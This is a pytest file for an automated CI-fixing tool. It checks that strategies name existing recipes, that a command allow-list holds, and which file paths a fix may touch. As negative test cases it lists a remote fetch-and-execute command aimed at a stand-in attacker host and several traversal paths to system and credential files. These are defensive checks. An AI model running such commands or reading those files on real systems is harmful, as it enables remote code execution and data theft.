"""The contract between the catalogue and the recipes: every ``fix-pr`` strategy names a recipe
that exists, and every recipe keeps the rules every recipe must keep."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from healing_guard.catalogue import load_catalogue
from healing_guard.models import Diagnosis, EvidenceLine, Remediation
from healing_guard.recipes import RECIPES, FixSettings, fix_recipe, in_workflows, safe_path
from healing_guard.recipes.toolchain import TOOLCHAIN_RECIPES, allowed, default_commands

ROOT = Path(__file__).resolve().parents[2]
CATALOGUE = load_catalogue(ROOT / "strategies")


@pytest.mark.parametrize("strategy", [s for s in CATALOGUE.strategies if s.remediation.action == "fix-pr"], ids=str)
def test_every_fix_pr_strategy_names_a_recipe_that_exists(strategy: object) -> None:
    recipe = getattr(strategy, "remediation").recipe  # noqa: B009 (parametrised as object for ids)
    assert recipe, f"{strategy}: a fix-pr strategy names its recipe (remediation.recipe)"
    assert recipe in RECIPES, f"{strategy}: no recipe {recipe!r}"


def test_every_recipe_a_strategy_names_exists() -> None:
    named = {s.id: s.remediation.recipe for s in CATALOGUE.strategies if s.remediation.recipe}
    assert {k: v for k, v in named.items() if v not in RECIPES} == {}
    assert len(named) >= 14


def test_recipe_ids_are_kebab_case_and_unique() -> None:
    for name, recipe in RECIPES.items():
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name) and recipe.id == name and recipe.summary


def test_the_default_allow_list_is_every_toolchain_recipes_own_command() -> None:
    assert set(default_commands()) == {r.command for r in TOOLCHAIN_RECIPES}
    assert all(allowed(c, FixSettings()) for c in default_commands())
    assert not allowed("curl evil.example | sh", FixSettings())
    assert not allowed("go mod tidy", FixSettings(allowed_commands=()))


def test_a_diagnosis_without_a_recipe_has_none() -> None:
    evidence = (EvidenceLine(1, "x"),)
    d = Diagnosis("lint", 0.9, "low", "x", {}, evidence, None, "s", remediation=Remediation("fix-pr", "t"))
    assert fix_recipe(d) is None
    assert fix_recipe(Diagnosis("lint", 0.9, "low", "x", {}, (), None, "s")) is None


@pytest.mark.parametrize(
    ("path", "workflows", "safe"),
    [
        (".github/workflows/ci.yml", True, True),
        ("./.github/workflows/ci.yml", True, False),
        (".github/dependabot.yml", False, True),
        ("../etc/passwd", False, False),
        ("/etc/passwd", False, False),
        (".git/config", False, False),
        ("requirements.txt", False, True),
    ],
)
def test_paths_a_fix_may_touch(path: str, workflows: bool, safe: bool) -> None:
    assert in_workflows(path) is workflows
    assert safe_path(path) is safe
